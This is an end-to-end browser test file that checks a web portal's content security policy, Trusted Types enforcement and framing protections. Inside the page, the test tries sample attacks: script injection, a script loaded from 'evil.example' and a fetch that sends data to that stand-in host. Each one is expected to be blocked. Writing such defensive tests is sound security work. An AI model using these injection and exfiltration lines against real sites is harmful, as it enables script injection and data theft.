import { expect, test } from '../kit/world.ts';

test.use({ wholeProduct: true });

test('[PUB-25] the content security policy stops what would get past the sanitiser, and says so', async ({
  page,
  violations,
}) => {
  const answer = await page.goto('/home');
  // The hashes are those of the script that runs before the first paint, and of the page's styles.
  expect(answer?.headers()['content-security-policy']).toMatch(
    /script-src 'self' 'sha256-[\w+/]{43}='; style-src 'self' 'sha256-[\w+/]{43}=';/,
  );
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    const tries = {
      // As markup that a parser reads: neither policy nor trusted type lets it in.
      markup: () => document.body.insertAdjacentHTML('beforeend', '<b id="markup">x</b>'),
      text: () => {
        script.textContent = 'window.hacked = true';
      },
      address: () => {
        script.src = 'https://evil.example/x.js';
      },
      policy: () => window.trustedTypes?.createPolicy('mine', { createScriptURL: (url) => url }),
    };
    const thrown = Object.entries(tries).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [];
      } catch {
        return [name];
      }
    });
    const style = document.createElement('style');
    style.append('body { display: none }');
    document.head.append(style);
    const sent = await fetch('https://evil.example/?words').then(
      () => true,
      () => false,
    );
    return {
      thrown,
      sent,
      hacked: 'hacked' in window,
      hidden: getComputedStyle(document.body).display === 'none',
    };
  });
  expect(ran).toEqual({
    thrown: ['markup', 'text', 'address', 'policy'],
    sent: false,
    hacked: false,
    hidden: false,
  });
  await expect.poll(() => violations.length).toBeGreaterThan(5);
  violations.splice(0);
});

test('no other page can hold the portal in a frame', async ({ page, baseURL, violations }) => {
  for (const address of ['/member/logon', '/home', '/admin/login', '/__console/people']) {
    const refused = page.waitForEvent('requestfailed', (one) => one.url() === baseURL + address);
    await page.setContent(`<iframe src="${baseURL}${address}"></iframe>`);
    expect((await refused).failure()?.errorText).toContain('ERR_BLOCKED_BY_RESPONSE');
  }
  await expect.poll(() => violations.length).toBeGreaterThan(3);
  violations.splice(0);
});
